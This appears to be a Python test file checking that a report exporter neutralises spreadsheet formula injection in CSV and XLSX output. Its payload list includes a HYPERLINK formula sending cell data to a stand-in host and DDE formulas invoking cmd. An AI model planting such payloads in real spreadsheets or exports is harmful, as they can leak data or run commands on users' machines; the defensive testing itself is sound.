"""Safe exports: payloads neutralised in CSV; XLSX text as string cells, never formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from muster.reports.cells import Cell, safe_cell, write_csv, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_triggers(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert [safe_cell(v) for v in ("김철수", "a=b", "", 42, -3, None, 1.5)] == [
        "김철수",
        "a=b",
        "",
        42,
        -3,
        None,
        1.5,
    ]


def test_csv_export_neutralises_payloads_and_has_a_bom() -> None:
    data = write_csv(
        ["name", "note"], [[p, "ok"] for p in PAYLOADS] + [["김철수", date(2021, 7, 1)]]
    )
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[-1] == ["김철수", "2021-07-01"]


def test_xlsx_export_has_no_formulas_and_strings_kept_exactly() -> None:
    rows: list[list[Cell]] = [[p, 1] for p in PAYLOADS]
    rows.append(["=1+1", -5])
    data = write_xlsx({"report": (["name", "count"], rows)})
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
    shown = [str(v[0]).replace("_x000D_", "\r") for v in values]  # openpyxl keeps Excel's CR escape
    assert shown == [*PAYLOADS, "=1+1"]
    assert values[-1][1] == -5  # numbers stay numbers
    assert all(cell.data_type == "s" for cell in sheet["A"])


def test_a_phone_number_in_xlsx_is_text_without_an_apostrophe() -> None:
    data = write_xlsx({"report": (["phone", "formula"], [["+82 10 1234 5678", "=1+1"]])})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    phone, formula = sheet["A2"], sheet["B2"]
    assert (phone.value, phone.data_type) == ("+82 10 1234 5678", "s")
    assert (formula.value, formula.data_type) == ("=1+1", "s")
    assert write_csv(["phone"], [["+82 10 1234 5678"]]).endswith(b"'+82 10 1234 5678\r\n")
